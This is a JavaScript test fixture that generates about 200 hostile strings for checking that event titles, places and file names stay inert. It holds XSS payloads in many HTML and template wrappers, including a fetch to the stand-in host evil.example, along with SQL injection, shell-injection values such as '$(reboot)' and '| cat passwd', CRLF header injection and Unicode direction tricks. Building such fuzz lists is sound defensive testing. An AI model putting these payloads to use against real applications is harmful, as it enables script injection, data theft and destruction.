// 200 texts that are nothing but text: as titles, places, infos and names of files they change nothing else.
const scripts = ['alert(1)', 'document.body.remove()', "fetch('//evil.example')", 'location=`//evil.example`']
const frames = [
  (js) => `<script>${js}</script>`, (js) => `"><script>${js}</script>`, (js) => `<img src=x onerror=${js}>`, (js) => `'"><img src=x onerror="${js}">`,
  (js) => `<svg onload=${js}>`, (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`, (js) => `<iframe srcdoc="<script>${js}</script>">`,
  (js) => `<a href="javascript:${js}">x</a>`, (js) => `javascript:${js}`, (js) => `data:text/html,<script>${js}</script>`, (js) => `<body onload=${js}>`,
  (js) => `<details open ontoggle=${js}>`, (js) => `<input autofocus onfocus=${js}>`, (js) => `</title><script>${js}</script>`, (js) => `</textarea><script>${js}</script>`,
  (js) => `<!--><script>${js}</script>`, (js) => `<math><mtext><style><img onerror=${js} src>`, (js) => `<ScRiPt>${js}</sCrIpT>`, (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `<object data="javascript:${js}">`, (js) => `<form action="javascript:${js}"><button>x`, (js) => `<link rel=stylesheet href="javascript:${js}">`,
  (js) => `<style>@import "javascript:${js}"</style>`, (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`, (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => '${' + js + '}', (js) => `{@html ${js}}`, (js) => `{#if ${js}}{/if}`, (js) => `<%= ${js} %>`, (js) => `#{${js}}`, (js) => `"onmouseover="${js}`, (js) => `'-${js}-'`,
]
const others = [
  "'; DROP TABLE events; --", '1 OR 1=1', "' UNION SELECT * FROM users --", "Robert'); DROP TABLE Students;--", '"; SELECT 1; --', '%27%20OR%201', '\\x27', "admin'--",
  '$(reboot)', '`reboot`', '; rm -rf x', '| cat passwd', '&& shutdown', '$HOME', '%PATH%', '~', '-rf', '--help', '> out', '$((1+1))', '!!', '*',
  '%s%s%s%n', '%x%x%x', '%1$n', '{0}', '%d', '\\n\\r\\t', '\\0', '\\u0000', '%00', '%0d%0aSet-Cookie: a=b', 'BEGIN:VEVENT', 'DTSTART:19700101T000000Z', '=cmd()', '@SUM(1+1)', '+1+1',
  '\u202egpj.exe', 'a\u202eb\u202cc', '\u2066hidden\u2069', '\u200f\u200e', 'a\u200bb', 'zero\u200d\u200cwidth', '\ufeffmark', 'soft\u00adhyphen', '\u0301\u0301\u0301e\u0301', 'Z\u0351\u036b\u0343\u036aa\u0352\u0364lgo',
  '👩‍👩‍👧‍👦 family', '🏳️‍🌈', '🇵🇹🇩🇪', '👍🏿', '😀'.repeat(50), 'ﷺ', '𝕋𝕙𝕖', 'ﬀ', 'İi̇ıI', 'ß ẞ', 'العربية', 'עברית', '日本語', 'ไทย', '\ud83d\udca9',
  'x'.repeat(255), 'W'.repeat(200), 'word '.repeat(50).trim(), '<'.repeat(200), '"'.repeat(100), '&amp;&amp;', '&#60;b&#62;', 'null', 'undefined', 'NaN', 'true', '__proto__',
  'constructor', 'toString', 'hasOwnProperty', '[object Object]', '0', '-1', '1e309',
]
export const hostile = [...scripts.flatMap((js) => frames.map((frame) => frame(js))), ...others]
/** The same as categories: at most 64 bytes, without commas and what reorders the text around it. */
export const categories = hostile.map((text) => {
  let made = ''
  for (const letter of text.replaceAll(',', ';').replace(/[\u202a-\u202e\u2066-\u2069]/g, '')) if (new TextEncoder().encode(made + letter).length <= 64) made += letter
  return made.trim()
})
/** The same as names of files, of which '/' and their like are no part. */
export const names = hostile.map((text) => [...text.replaceAll(/[/\\]/g, '_')].slice(0, 40).join('') + '.txt')
